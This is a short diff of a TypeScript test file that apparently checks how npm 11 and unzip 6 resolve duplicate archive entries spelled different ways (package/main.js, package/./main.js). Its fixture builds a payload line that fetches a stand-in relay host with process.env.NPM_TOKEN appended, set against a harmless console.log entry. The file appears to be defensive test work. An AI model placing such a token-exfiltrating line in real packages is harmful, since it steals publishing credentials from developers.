@@ -9,7 +9,7 @@ const harmless = "console.log('nothing');\n";
 const real = (index: number): string =>
   `fetch('https://second-${index}.example-relay.net/?' + process.env.NPM_TOKEN);\n`;
 
-/** Each way of writing the second entry, and the name under which npm 11 and unzip 6 leave it. */
+/** Each form of the second entry, and the name under which npm 11 and unzip 6 leave it. */
 const spellings = [
   "package/main.js",
   "package/./main.js",
